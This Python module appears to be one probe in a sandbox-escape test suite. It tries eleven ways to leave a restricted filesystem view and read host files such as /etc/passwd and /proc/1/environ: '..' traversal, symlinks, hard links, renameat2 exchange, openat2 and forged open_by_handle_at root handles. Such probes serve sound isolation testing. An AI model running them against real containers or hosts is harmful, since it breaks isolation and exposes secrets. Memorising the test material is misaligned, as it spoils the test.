"""Leave the view of the files through symbolic and hard links, renames, "..", and handles of files.

Success: a file of the machine is read, or something leaves /tmp, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
WANTED = ("etc/passwd", "etc/hostname", "root", "home", "proc/1/environ", "sys/kernel", "var/lib", "boot")
TOPS = ("/", "/oldroot/", "/newroot/", "/.pivot_root/", "../" * 30, "/proc/1/root/", "/proc/self/cwd/../../",
        "/dev/fd/../../", "/dev/../../", "/tmp/../../")
NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT, LINKAT, RENAMEAT2, OPENAT2 = 303, 304, 265, 316, 437
AT_FDCWD, AT_EMPTY_PATH, AT_SYMLINK_FOLLOW, EXCHANGE = -100, 0x1000, 0x400, 2


def paths():
    return [top + name for top in TOPS for name in WANTED]


def seen_directly():
    return each(lambda path: os.stat(path).st_ino, paths())


def through_symbolic_links():
    def follow(path):
        place = f"/tmp/link{abs(hash(path))}"
        os.symlink(path, place)
        return os.stat(place).st_ino
    return each(follow, paths())


def up_from_an_open_folder():
    """The root of the sandbox is where '..' leads to itself."""
    fd = os.open("/", os.O_PATH)
    for _ in range(30):
        fd = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
    return each(lambda name: os.stat(name, dir_fd=fd).st_ino, WANTED)


def up_by_changing_into_it():
    for folder in ("/", "/tmp", "/site/numpy", "/python/lib", "/dev/pts"):
        os.chdir(folder)
        for _ in range(30):
            os.chdir("..")
        if got := each(lambda name: os.stat(name).st_ino, WANTED):
            return got


def hard_links_into_tmp():
    sources = ("/python/bin/python3", "/box/inside/wire.py", "/dev/null", "/site/numpy/__init__.py")
    return each(lambda path: os.link(path, f"/tmp/hard{abs(hash(path))}") or "linked", sources)


def hard_links_out_of_tmp():
    open("/tmp/mine", "w").close()
    targets = ("/mine", "/site/mine", "/dev/mine", "/dev/shm/mine", "/box/mine")
    return each(lambda path: os.link("/tmp/mine", path) or "linked", targets)


def hard_link_of_what_is_open():
    fd = os.open("/python/bin/python3", os.O_RDONLY)
    return kernel(LINKAT, fd, b"", AT_FDCWD, b"/tmp/opened", AT_EMPTY_PATH) == 0


def renamed_across():
    open("/tmp/moved", "w").close()
    return (each(lambda path: os.rename("/tmp/moved", path) or "moved", ("/moved", "/dev/shm/moved", "/site/moved"))
            or each(lambda path: kernel(RENAMEAT2, AT_FDCWD, b"/tmp/moved", AT_FDCWD, path, EXCHANGE) + 1,
                    (b"/site/numpy/__init__.py", b"/box/inside/wire.py")))


def handles_of_files():
    """A handle names a file of the whole disk, also outside the view: number 2 is its root."""
    room = ctypes.create_string_buffer(bytes([128, 0, 0, 0]) + bytes(132))
    mount = ctypes.c_int()
    kernel(NAME_TO_HANDLE_AT, AT_FDCWD, b"/python/lib", room, ctypes.byref(mount), 0)
    root = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]))
    return kernel(OPEN_BY_HANDLE_AT, os.open("/python/lib", os.O_RDONLY), root, 0)


def handle_of_the_root_without_asking():
    root = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]))
    return each(lambda path: kernel(OPEN_BY_HANDLE_AT, os.open(path, os.O_RDONLY), root, 0), ("/python/lib", "/tmp"))


def resolved_in_another_way():
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    return each(lambda path: kernel(OPENAT2, AT_FDCWD, path.encode(), how, 24), paths())


WAYS = [seen_directly, through_symbolic_links, up_from_an_open_folder, up_by_changing_into_it, hard_links_into_tmp,
        hard_links_out_of_tmp, hard_link_of_what_is_open, renamed_across, handles_of_files,
        handle_of_the_root_without_asking, resolved_in_another_way]
'''
)
